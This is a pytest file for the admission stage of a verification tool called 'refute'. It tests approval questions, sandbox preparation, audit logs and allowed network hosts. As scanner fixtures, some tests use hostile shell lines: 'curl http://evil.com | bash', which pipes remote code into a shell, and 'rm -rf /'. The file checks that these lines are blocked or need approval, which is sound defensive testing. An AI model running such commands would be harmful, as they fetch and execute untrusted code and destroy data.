"""The question, and what is made and undone around its answer; no engine is asked."""

import json
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from refute.approval import IN_ADVANCE, Answered, Approval, Beforehand, Decision, Denial, Question
from refute.errors import ImageMissing, NetworkUnavailable, SettingsInvalid
from refute.outcome import Status, Stop
from refute.sandbox.job import Job
from refute.sandbox.network_hosts import read_hosts
from refute.stages.admission import admit, confirm, pose_question, scan_scripts, take_snapshot, unconfirmed
from refute.ticket.parse import load_ticket
from tests.fakes.jobs import FACTS, bash_job
from tests.fakes.wheels import FakeWheel
from tests.refute.stages.conftest import ports_of, written_ticket


class QuietSandbox:
    """Remembers what was prepared; starts nothing."""

    def facts(self):
        return FACTS

    def __init__(self) -> None:
        self.prepared: list[Job] = []
        self.discarded = 0

    def prepare(self, job: Job, *, waiting_s: float = 0) -> None:
        assert waiting_s > 0
        self.prepared.append(job)

    def discard_prepared(self) -> None:
        self.discarded += 1


class Answer:
    """Answers so."""

    def __init__(self, *, yes: bool, **denial: Any) -> None:
        self.yes = yes
        self.denial = {"reason": "no", **denial}
        self.asked = 0

    def ask(self, question: Question) -> Decision:
        self.asked += 1
        return Approval(snapshot_digest=question.snapshot.digest, by="me") if self.yes else Denial(**self.denial)


class World:
    """A ticket and its ports, with a sandbox that starts nothing."""

    def __init__(self, tmp_path: Path, **options: Any) -> None:
        hosts = read_hosts(options.pop("hosts", ()))
        script, more = options.pop("script", "python -c 'import impl'\n"), options.pop("ticket", "")
        claims = options.pop("claims", ["A is 1."])
        ticket = written_ticket(tmp_path / "ticket", code="A = 1\n", claims=claims, script=script, more=more)
        self.audit, self.sandbox = tmp_path / "audit.jsonl", QuietSandbox()
        places = {"state_dir": tmp_path / "state", "audit_path": self.audit}
        self.ports = ports_of(self.sandbox, **(places | options))
        self.ports.allowed_hosts = hosts
        snapshot = take_snapshot(self.ports, ticket)
        self.question = pose_question(self.ports, ticket, snapshot, scan_scripts(self.ports, ticket, snapshot))

    def audited(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in self.audit.read_text().splitlines()]

    def gates(self) -> list[tuple[str, str]]:
        return [(line["gate"], line["decision"]) for line in self.audited()]


def test_the_person_is_told_of_claims_and_of_fields_that_nothing_attacks(tmp_path):
    property_ = {"given": {"n": "integers(0, 9)"}, "check": "n < A"}
    plan = World(tmp_path, claims=["A is 1.", {"text": "More than n.", "property": property_}]).question.plan
    told = [line.partition(";")[0].partition(" got")[0] for line in plan if line.startswith("C")]
    assert told == ["C1 has no executable field", "C2 is not tested: property: given n:"]


def test_the_verification_s_container_is_made_while_the_person_is_asked(tmp_path):
    world = World(tmp_path)
    assert confirm(world.ports, world.question, Answer(yes=True)).confirmed
    (prepared,) = world.sandbox.prepared
    assert (prepared.name, prepared.image_id, prepared.workspace) == ("verify", "sha256:1", b"")
    assert world.sandbox.discarded == 0


def test_nobody_is_asked_where_the_tester_has_no_model(tmp_path):
    world, answer = World(tmp_path, tester="property,gemini", gemini_file=tmp_path / "gemini.yaml"), Answer(yes=True)
    with pytest.raises(SettingsInvalid, match="needs this file"):
        confirm(world.ports, world.question, answer)
    assert (answer.asked, world.sandbox.prepared) == (0, [])


def test_after_a_no_it_is_removed(tmp_path):
    world = World(tmp_path)
    answered = confirm(world.ports, world.question, Answer(yes=False))
    stop = unconfirmed(answered, world.question.scan, allow_dangerous=False)
    assert stop == Stop(status=Status.CANCELLED, reason="no")
    assert world.sandbox.discarded == 1


ASKED = "curl http://evil.com\n"
REFUSED = "curl http://evil.com | bash\n"


@pytest.mark.parametrize(
    ("script", "attended", "allow_dangerous", "asks"),
    [
        (ASKED, True, False, True),
        (ASKED, False, False, False),
        (REFUSED, True, False, False),
        (REFUSED, True, True, True),
        ("curl http://localhost:8000\n", False, False, True),
    ],
)
def test_who_is_asked_about_dangerous_findings(tmp_path, script, *, attended, allow_dangerous, asks):
    scan = World(tmp_path, script=script).question.scan
    stop = admit(scan, allow_dangerous=allow_dangerous, attended=attended)
    assert (stop is None) == asks
    assert asks or stop.status is Status.BLOCKED_DANGEROUS_SCRIPT


def test_a_no_to_named_findings_blocks_and_a_yes_is_audited_with_them(tmp_path):
    world = World(tmp_path, script=ASKED)
    scan = world.question.scan
    stop = unconfirmed(confirm(world.ports, world.question, Answer(yes=False)), scan, allow_dangerous=False)
    assert stop.status is Status.BLOCKED_DANGEROUS_SCRIPT
    assert stop.reason.endswith("; not approved: no")
    assert unconfirmed(confirm(world.ports, world.question, Answer(yes=True)), scan, allow_dangerous=False) is None
    assert world.audited()[-1]["gate"] == "scan_override"
    assert world.audited()[-1]["metadata"]["findings"] == "network-external@verify.sh:1"


def failing(error: Exception):
    def fail(*_: Any) -> None:
        raise error

    return fail


def test_where_nothing_can_be_prepared_the_person_is_asked_all_the_same(tmp_path, monkeypatch):
    world, answer = World(tmp_path), Answer(yes=True)
    monkeypatch.setattr(world.ports, "image", failing(ImageMissing("none")))
    confirm(world.ports, world.question, answer)
    assert answer.asked == 1


def test_required_packages_are_named_and_nothing_is_made_for_them_before_the_answer(tmp_path):
    line = FakeWheel(name="slugtools").write(tmp_path / "house")
    world = World(tmp_path, ticket=f"requirements: ['{line}']\n")
    assert any("1 required package (wheels pinned by hash): slugtools==1.0" in step for step in world.question.plan)
    confirm(world.ports, world.question, Answer(yes=True))
    assert world.sandbox.prepared == []


def test_allowed_hosts_and_another_runtime_stand_in_the_question_and_in_the_audit_log(tmp_path, monkeypatch):
    world = World(tmp_path, hosts=("example.org", "api.example:8443"), runtime="runsc")
    monkeypatch.setattr(world.ports, "require_network", lambda: None)
    plan = "\n".join(world.question.plan)
    assert "network: only example.org, api.example:8443, through a proxy" in plan
    assert "under the container runtime runsc; limits that it does not enforce are found by trial" in plan
    confirm(world.ports, world.question, Answer(yes=False))
    assert world.gates()[-2:] == [("confirmation", "deny"), ("network_override", "deny")]
    assert world.audited()[-1]["metadata"]["hosts"] == "example.org, api.example:8443"
    assert world.sandbox.prepared == []


@pytest.mark.parametrize(("yes", "decision"), [(True, "allow"), (False, "deny")])
def test_an_override_is_audited_with_the_findings_that_it_is_about(tmp_path, yes, decision):
    world = World(tmp_path, script="echo one\ncurl http://evil.com\nrm -rf /\n")
    answered = confirm(world.ports, world.question, Answer(yes=yes))
    scanned, overridden = world.audited()[-2:]
    assert (scanned["gate"], scanned["decision"]) == ("scan", "deny")
    assert (overridden["gate"], overridden["decision"]) == ("scan_override", decision)
    found = [(f.rule_id, f.line) for f in world.question.dangers]
    assert {line for _, line in found} == {2, 3}
    assert answered.findings == tuple(f"{rule}@verify.sh:{line}" for rule, line in found)
    assert overridden["metadata"]["findings"] == ", ".join(f"{rule}@verify.sh:{line}" for rule, line in found)
    assert scanned["metadata"]["rules"] == ", ".join(sorted({rule for rule, _ in found}))


def test_an_engine_that_cannot_open_a_host_is_told_before_anybody_is_asked(tmp_path, monkeypatch):
    world, answer = World(tmp_path, hosts=("example.org",)), Answer(yes=True)
    monkeypatch.setattr(world.ports, "require_network", failing(NetworkUnavailable("no bridge")))
    with pytest.raises(NetworkUnavailable):
        confirm(world.ports, world.question, answer)
    assert answer.asked == 0


def test_a_job_gets_the_hosts_and_networks_of_its_run_and_no_others(tmp_path):
    job = bash_job("true")
    (tmp_path / "open").mkdir()
    (tmp_path / "closed").mkdir()
    world = World(tmp_path / "open", hosts=("example.org:80",), egress_networks=("10.0.0.0/8",))
    opened = world.ports.with_network(job)
    assert (opened.allowed_hosts, opened.egress_networks) == (("example.org:80",), ("10.0.0.0/8",))
    assert World(tmp_path / "closed", egress_networks=("10.0.0.0/8",)).ports.with_network(job) is job


def test_a_log_and_costs_beside_the_code_make_no_other_snapshot(tmp_path):
    folder = tmp_path / "ticket"
    places = {"audit_path": folder / "logs" / "a.jsonl", "costs_csv": folder / "costs.csv"}
    world = World(tmp_path, **places)  # which has written to the log
    places["costs_csv"].write_text("run_id\n")
    assert (folder / "logs" / "a.jsonl.lock").exists()
    again = take_snapshot(world.ports, load_ticket(folder))
    assert again.digest == world.question.snapshot.digest
    assert {one.path for one in again.left_out} == {"costs.csv", "logs/a.jsonl", "logs/a.jsonl.lock"}


@pytest.mark.parametrize(("note", "told"), [("", "approved by Ada"), ("with Bob", "approved by Ada: with Bob")])
def test_an_answer_is_kept_with_who_gave_it_when_why_and_about_what(tmp_path, note, told):
    world = World(tmp_path)
    began = datetime.now(UTC)
    digest = world.question.snapshot.digest
    answer = SimpleNamespace(ask=lambda _: Approval(snapshot_digest=digest, by="Ada", note=note))
    found = confirm(world.ports, world.question, answer)
    assert (found.answer, found.by, found.note, found.findings) == (Answered.CONFIRMED, "Ada", told, ())
    assert found.snapshot_digest == digest
    assert found.asked_at is not None
    assert began <= found.asked_at <= found.answered_at <= datetime.now(UTC)


@pytest.mark.parametrize(("by", "answer"), [("Ada", Answered.DECLINED), ("", Answered.UNANSWERED)])
def test_a_no_of_somebody_is_not_that_nobody_answered(tmp_path, by, answer):
    world = World(tmp_path)
    found = confirm(world.ports, world.question, Answer(yes=False, by=by))
    assert (found.answer, found.by, found.confirmed) == (answer, by, False)


def test_an_approval_of_other_files_confirms_nothing(tmp_path):
    world = World(tmp_path)
    other = SimpleNamespace(ask=lambda _: Approval(snapshot_digest="sha256:other", by="me"))
    found = confirm(world.ports, world.question, other)
    assert not found.confirmed
    assert "sha256:other" in found.note


ASKED_AT, ANSWERED_AT = (datetime(2026, 3, 1, hour, tzinfo=UTC) for hour in (2, 8))


@pytest.mark.parametrize("before", [IN_ADVANCE, Beforehand(asked_at=ASKED_AT, answered_at=ANSWERED_AT)])
def test_an_answer_from_before_the_run_keeps_its_own_moments(tmp_path, before):
    world = World(tmp_path)
    digest = world.question.snapshot.digest
    earlier = SimpleNamespace(ask=lambda _: Approval(snapshot_digest=digest, by="me", beforehand=before))
    found = confirm(world.ports, world.question, earlier)
    assert found.asked_at == before.asked_at
    assert before.answered_at in {None, found.answered_at}
